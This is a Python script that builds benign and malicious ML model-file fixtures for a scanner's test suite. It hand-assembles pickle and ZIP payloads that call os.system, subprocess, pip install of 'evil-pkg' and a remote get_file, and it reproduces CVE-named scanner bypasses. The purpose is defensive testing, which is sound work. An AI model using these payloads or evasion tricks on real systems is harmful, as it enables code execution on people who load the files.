#!/usr/bin/python3
"""Make the model-scan fixtures in this folder and expected.json.

Run from the repository root with Debian's python3-torch, python3-numpy,
python3-sklearn and python3-h5py:

    /usr/bin/python3 scan/testdata/gen_fixtures.py

Benign fixtures come from the real libraries (torch.save, numpy.save,
pickle of a fitted LogisticRegression, h5py). Malicious ones are
assembled here from pickle opcodes and ZIP records by hand: nothing is
unpickled, nothing is run. Each is named after the bypass or advisory it
reproduces; expected.json holds the verdict and the key rule (and global)
that scan_test.go checks for every fixture. Output is deterministic, but
for the storage keys of the legacy torch file, which torch takes from
object ids.
"""
import io
import json
import os
import struct
import sys
import zipfile
import zlib

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
EXPECTED = {}


def write(name, data, verdict, rule=None, glob=None, fmt=None):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
    e = {"verdict": verdict}
    if rule:
        e["rule"] = rule
    if glob:
        e["global"] = glob
    if fmt:
        e["format"] = fmt
    EXPECTED[name] = e


# --- pickle opcodes -------------------------------------------------------

def proto(n):
    return b"\x80" + bytes([n])


def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def glob0(mod, name):  # GLOBAL (protocol 0 text form)
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


MEMOIZE, STACK_GLOBAL, REDUCE, BUILD, STOP = b"\x94", b"\x93", b"R", b"b", b"."
TUPLE1, TUPLE2, MARK, TUPLE, NONE, POP = b"\x85", b"\x86", b"(", b"t", b"N", b"0"
EMPTY_DICT, SETITEM, EMPTY_LIST, APPEND, DUP = b"}", b"s", b"]", b"a", b"2"


def binget(i):
    return b"h" + bytes([i])


def call1(callable_ops, arg):
    """callable(arg) with a string argument, protocol 2+."""
    return callable_ops + su(arg) + TUPLE1 + REDUCE


def stack_global(mod, name):
    return su(mod) + su(name) + STACK_GLOBAL


def torch_magic_pickles(sys_info=True):
    """The first three pickles of a legacy torch file, written by pickle
    itself: magic number, protocol version, system info."""
    import pickle
    out = pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2)
    out += pickle.dumps(1001, protocol=2)
    info = {"protocol_version": 1001, "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return out + pickle.dumps(info, protocol=2)


# --- ZIP records by hand (stored members) ---------------------------------

def make_zip(members, flags=0, bad_crc=(), local_names=None, central=True):
    """members: list of (name, bytes). flags are set on every local and
    central header; members named in bad_crc get a wrong CRC; local_names
    maps a central name to a different local-header name; central=False
    leaves out the central directory and end record."""
    local_names = local_names or {}
    out, cd = io.BytesIO(), io.BytesIO()
    for name, data in members:
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if name in bad_crc:
            crc ^= 0xDEADBEEF
        lname = local_names.get(name, name).encode()
        off = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0x21, crc, len(data), len(data),
                              len(lname), 0))
        out.write(lname + data)
        cname = name.encode()
        cd.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 0, 0, 0x21, crc, len(data),
                             len(data), len(cname), 0, 0, 0, 0, 0, off))
        cd.write(cname)
    if central:
        start = out.tell()
        out.write(cd.getvalue())
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd.getvalue()),
                              start, 0))
    return out.getvalue()


def npy_object_header():
    d = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    d += " " * (63 - (10 + len(d)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(d)) + d.encode()


# --- payloads ----------------------------------------------------------------

OS_SYSTEM = proto(2) + glob0("os", "system") + su("echo pwned") + TUPLE1 + REDUCE + STOP
OS_SYSTEM_P0 = glob0("os", "system") + MARK + b"S'echo pwned'\n" + TUPLE + REDUCE + STOP


def benign():
    import pickle
    import torch
    import h5py
    from sklearn.linear_model import LogisticRegression

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    buf = io.BytesIO()
    torch.save(model.state_dict(), buf)
    torch_zip = buf.getvalue()
    write("benign_torch_zip.pt", torch_zip, "safe", fmt="pytorch-zip")
    buf = io.BytesIO()
    torch.save(model.state_dict(), buf, _use_new_zipfile_serialization=False)
    write("benign_torch_legacy.pt", buf.getvalue(), "safe", fmt="pytorch-legacy")

    buf = io.BytesIO()
    np.save(buf, np.arange(12, dtype=np.float32).reshape(3, 4))
    write("benign_float.npy", buf.getvalue(), "safe", fmt="npy")
    buf = io.BytesIO()
    np.save(buf, np.array([1, "two", (3,)], dtype=object), allow_pickle=True)
    write("object_array_benign.npy", buf.getvalue(), "suspicious", "npy.object_array", fmt="npy")
    buf = io.BytesIO()
    np.savez(buf, x=np.ones((2, 2)), y=np.arange(3))
    write("benign_arrays.npz", buf.getvalue(), "safe", fmt="npz")
    buf = io.BytesIO()
    np.savez_compressed(buf, x=np.ones((2, 2)), o=np.array([{"a": 1}], dtype=object))
    write("object_array_compressed.npz", buf.getvalue(), "suspicious", "npy.object_array", fmt="npz")

    rng = np.random.RandomState(0)
    X, y = rng.normal(size=(40, 3)), np.arange(40) % 2
    clf = LogisticRegression().fit(X, y)
    write("benign_sklearn_logreg.pkl", pickle.dumps(clf, protocol=4), "safe", fmt="pickle")
    write("benign_dict_p0.pkl", pickle.dumps({"w": [1.5, 2.5], "name": "m\u00e9"}, protocol=0), "safe", fmt="pickle")
    write("benign_numpy_p5.pkl", pickle.dumps({"a": np.arange(4)}, protocol=5), "safe", fmt="pickle")

    buf = io.BytesIO()
    with h5py.File(buf, "w") as h:
        h.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [
            {"class_name": "Dense", "config": {"units": 2}}]}})
        h.create_dataset("w", data=np.ones(4))
    write("benign_keras.h5", buf.getvalue(), "safe", fmt="hdf5")
    buf = io.BytesIO()
    with h5py.File(buf, "w") as h:
        h.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [
            {"class_name": "Lambda", "config": {"function": ["4wEAAAAAAAAA", None, None]}}]}})
    write("keras_lambda_cve_2024_3660.h5", buf.getvalue(), "dangerous", "keras.lambda_layer", fmt="hdf5")
    return torch_zip


def safetensors_files():
    def st(header, data):
        h = json.dumps(header, separators=(",", ":")).encode()
        h += b" " * (-len(h) % 8)
        return struct.pack("<Q", len(h)) + h + data
    w = np.arange(6, dtype=np.float32).tobytes()
    b = np.arange(2, dtype=np.int64).tobytes()
    ok = {"__metadata__": {"format": "pt"},
          "w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]},
          "b": {"dtype": "I64", "shape": [2], "data_offsets": [24, 40]}}
    write("benign.safetensors", st(ok, w + b), "safe", fmt="safetensors")
    bad = {"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]},
           "b": {"dtype": "I64", "shape": [2], "data_offsets": [16, 32]}}
    write("safetensors_overlapping_offsets.safetensors", st(bad, w + b[:8]), "invalid",
          "safetensors.invalid_offsets", fmt="safetensors")
    write("safetensors_trailing_garbage.safetensors", st(ok, w + b + b"PK\x03\x04junk"), "invalid",
          "safetensors.invalid_offsets", fmt="safetensors")


def keras_files():
    def layer(cls, module="keras.layers", **cfg):
        return {"module": module, "class_name": cls, "config": cfg, "registered_name": None}
    def model(layers):
        return {"module": "keras", "class_name": "Sequential", "registered_name": None,
                "config": {"name": "m", "layers": layers}}
    meta = json.dumps({"keras_version": "3.4.1", "date_saved": "2026-01-01@00:00:00"}).encode()
    h5 = b"\x89HDF\r\n\x1a\n" + b"\x00" * 56
    def keras(cfg):
        return make_zip([("metadata.json", meta), ("config.json", json.dumps(cfg).encode()),
                         ("model.weights.h5", h5)])
    dense = layer("Dense", units=2, kernel_initializer=layer("GlorotUniform", "keras.initializers", seed=None))
    write("benign_keras_v3.keras", keras(model([dense])), "safe", fmt="keras")
    lam = layer("Lambda", function={"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}})
    write("keras_lambda_layer.keras", keras(model([dense, lam])), "dangerous", "keras.lambda_layer", fmt="keras")
    evil = {"module": "os", "class_name": "system", "config": {}, "registered_name": None}
    write("keras_module_cve_2025_1550.keras", keras(model([dense, evil])), "dangerous", "keras.unsafe_module",
          fmt="keras")
    gadget = layer("get_file", module="keras.utils", origin="http://example.invalid/x")
    write("keras_utils_gadget_cve_2025_8747.keras", keras(model([gadget])), "dangerous", "keras.unsafe_module",
          fmt="keras")


def malicious_pickles():
    write("global_os_system.pkl", OS_SYSTEM, "dangerous", "pickle.dangerous_global", "os.system")
    # picklescan #22: the names come from the memo, decoys sit just before.
    p = (proto(4) + su("os") + MEMOIZE + su("system") + MEMOIZE + POP + POP +
         su("collections") + su("OrderedDict") + POP + POP +
         binget(0) + binget(1) + STACK_GLOBAL + su("id") + TUPLE1 + REDUCE + STOP)
    write("stack_global_memo_picklescan22.pkl", p, "dangerous", "pickle.dangerous_global", "os.system")
    # modelscan #85: BUILD sets attributes on an allowlisted global, then the
    # memoized strings feed STACK_GLOBAL.
    state = NONE + EMPTY_DICT + su("a") + su("os") + MEMOIZE + SETITEM + su("b") + su("system") + MEMOIZE + SETITEM
    p = (proto(4) + stack_global("collections", "OrderedDict") + MEMOIZE + state + TUPLE2 + BUILD + POP +
         binget(1) + binget(2) + STACK_GLOBAL + su("id") + TUPLE1 + REDUCE + STOP)
    write("build_attribute_modelscan85.pkl", p, "dangerous", "pickle.global_mutation", "collections.OrderedDict")
    # builtins.__import__("os").system via getattr
    imp = stack_global("builtins", "__import__") + su("os") + TUPLE1 + REDUCE
    p = proto(4) + stack_global("builtins", "getattr") + imp + su("system") + TUPLE2 + REDUCE + su("id") + TUPLE1 + REDUCE + STOP
    write("builtins_import.pkl", p, "dangerous", "pickle.dangerous_global", "builtins.__import__")
    p = proto(2) + glob0("pip", "main") + EMPTY_LIST + su("install") + APPEND + su("evil-pkg") + APPEND + TUPLE1 + REDUCE + STOP
    write("pip_main_cve_2025_1716.pkl", p, "dangerous", "pickle.dangerous_global", "pip.main")
    p = proto(4) + stack_global("asyncio.unix_events", "_UnixSubprocessTransport") + EMPTY_TUPLE_() + REDUCE + STOP
    write("asyncio_submodule_cve_2025_10157.pkl", p, "dangerous", "pickle.dangerous_global",
          "asyncio.unix_events._UnixSubprocessTransport")
    p = (proto(4) + stack_global("operator", "methodcaller") + su("system") + su("id") + TUPLE2 + REDUCE +
         stack_global("builtins", "__import__") + su("os") + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP)
    write("operator_methodcaller.pkl", p, "dangerous", "pickle.dangerous_global", "operator.methodcaller")
    write("protocol0_bin_extension_cve_2025_1889.bin", OS_SYSTEM_P0, "dangerous", "pickle.dangerous_global",
          "os.system", fmt="pickle")
    p = proto(2) + glob0("subprocess", "Popen") + su("id") + TUPLE1 + REDUCE + STOP
    write("pickle_named_txt_cve_2025_10155.txt", p, "dangerous", "pickle.dangerous_global", "subprocess.Popen",
          fmt="pickle")
    # Operands that are the result of a call: unresolvable.
    p = (proto(4) + stack_global("collections", "OrderedDict") + EMPTY_TUPLE_() + REDUCE + su("system") +
         STACK_GLOBAL + STOP)
    write("unresolved_operand.pkl", p, "dangerous", "pickle.unresolved_operand")
    p = proto(2) + MARK + NONE + DUP * 5000 + TUPLE + STOP
    write("expansion_dup.pkl", p, "suspicious", "pickle.expansion")
    p = proto(2) + glob0("numpy", "__builtins__") + su("eval") + TUPLE1 + REDUCE + STOP
    write("dunder_builtins_modelscan330.pkl", p, "dangerous", "pickle.dangerous_global", "numpy.__builtins__")
    p = proto(2) + glob0("torch.hub", "load") + su("evil/repo") + TUPLE1 + REDUCE + STOP
    write("torch_hub_load.pkl", p, "dangerous", "pickle.dangerous_global", "torch.hub.load")
    p = proto(2) + glob0("__builtin__", "eval") + su("1") + TUPLE1 + REDUCE + STOP
    write("py2_builtin_eval.pkl", p, "dangerous", "pickle.dangerous_global", "__builtin__.eval")
    p = proto(2) + glob0("mymodels", "Net") + EMPTY_TUPLE_() + REDUCE + STOP
    write("unknown_global.pkl", p, "suspicious", "pickle.unknown_global", "mymodels.Net")
    write("truncated_pickle.pkl", OS_SYSTEM[:-6], "dangerous", "pickle.invalid")
    write("broken_header.pkl", proto(2) + b"\xff\xfe", "invalid", "pickle.invalid")
    # An object .npy whose pickle runs os.system.
    write("object_npy_os_system.npy", npy_object_header() + OS_SYSTEM, "dangerous", "pickle.dangerous_global",
          "os.system", fmt="npy")


def EMPTY_TUPLE_():
    return b")"


def malicious_archives(torch_zip):
    zf = zipfile.ZipFile(io.BytesIO(torch_zip))
    members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    data_pkl = next(n for n, _ in members if n.endswith("/data.pkl"))
    evil = [(n, OS_SYSTEM if n == data_pkl else d) for n, d in members]
    key = ("pickle.dangerous_global", "os.system")
    write("torch_zip_os_system.pt", make_zip(evil), "dangerous", *key, fmt="pytorch-zip")
    for bit in (0x1, 0x20, 0x40):
        write("torch_zip_flag_0x%02x_cve_2025_1945.pt" % bit, make_zip(evil, flags=bit), "dangerous", *key,
              fmt="pytorch-zip")
    write("torch_zip_bad_crc_cve_2025_10156.pt", make_zip(evil, bad_crc={data_pkl}), "dangerous", *key,
          fmt="pytorch-zip")
    write("torch_zip_name_mismatch_cve_2025_1944.pt",
          make_zip(evil, local_names={data_pkl: data_pkl.replace("data.pkl", "data.txt")}), "dangerous", *key,
          fmt="pytorch-zip")
    write("torch_zip_no_central_directory.pt", make_zip(evil, central=False), "dangerous", *key, fmt="pytorch-zip")
    hidden = [(n.replace("data.pkl", "weights.bin"), d) for n, d in evil]
    write("zip_pickle_named_bin.zip", make_zip(hidden), "dangerous", *key, fmt="zip")
    write("zip_nested_torch_zip.zip", make_zip([("inner/model.pt", make_zip(evil))]), "dangerous", *key, fmt="zip")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("x.npy", date_time=(2026, 1, 1, 0, 0, 0)), npy_object_header() + OS_SYSTEM,
                   compress_type=zipfile.ZIP_DEFLATED)
    write("npz_deflated_object_os_system.npz", buf.getvalue(), "dangerous", *key, fmt="npz")
    # Legacy torch: the first pickles are genuine, the fifth (storage keys,
    # which torch.load unpickles too) runs os.system.
    legacy = torch_magic_pickles() + proto(2) + EMPTY_DICT + STOP + OS_SYSTEM + b"\x00" * 64
    write("torch_legacy_fifth_pickle.pt", legacy, "dangerous", *key, fmt="pytorch-legacy")


def not_pickles():
    rnd = bytes((i * 7919 + 13) % 251 for i in range(4096))
    write("random_bytes.bin", b"\x07" + rnd, "safe", fmt="unknown")
    write("readme.txt", b"# A model card\n\nThis model classifies digits.\n", "safe", fmt="unknown")


def pickle_oracle():
    """internal/format/pickle/testdata: pickles of protocols 0 to 5 and the
    globals CPython's Unpickler.find_class is asked for when loading them
    (benign objects only: loading them runs nothing of theirs)."""
    import collections
    import pickle
    out = os.path.join(HERE, "..", "..", "internal", "format", "pickle", "testdata")
    os.makedirs(out, exist_ok=True)

    class Recorder(pickle.Unpickler):
        def find_class(self, module, name):
            self.seen.add((module, name))
            return super().find_class(module, name)

    obj = {"od": collections.OrderedDict(a=1), "arr": np.arange(3, dtype=np.int16), "set": {1, 2},
           "frozen": frozenset([3]), "c": complex(1, 2), "bytes": b"xy" * 300, "text": "\u00e9" * 300,
           "short": "os", "nested": [(1, 2), (3,), None, True, 1.5, 2 ** 70], "ba": bytearray(b"ab")}
    oracle = {}
    for proto in range(6):
        data = pickle.dumps(obj, protocol=proto)
        name = "protocol%d.pkl" % proto
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        r = Recorder(io.BytesIO(data))
        r.seen = set()
        r.load()
        oracle[name] = {"pickles": 1, "globals": sorted([m, n] for m, n in r.seen)}
    stream = b"".join(pickle.dumps(x, protocol=p) for p, x in [(2, 1), (4, collections.OrderedDict()), (0, "x")])
    with open(os.path.join(out, "three_pickles.pkl"), "wb") as f:
        f.write(stream)
    oracle["three_pickles.pkl"] = {"pickles": 3, "globals": [["collections", "OrderedDict"]]}
    with open(os.path.join(out, "find_class.json"), "w") as f:
        json.dump(oracle, f, indent=1, sort_keys=True)
        f.write("\n")


def main():
    pickle_oracle()
    torch_zip = benign()
    safetensors_files()
    keras_files()
    malicious_pickles()
    malicious_archives(torch_zip)
    not_pickles()
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(EXPECTED, f, indent=1, sort_keys=True)
        f.write("\n")
    print("wrote %d fixtures" % len(EXPECTED), file=sys.stderr)


if __name__ == "__main__":
    main()
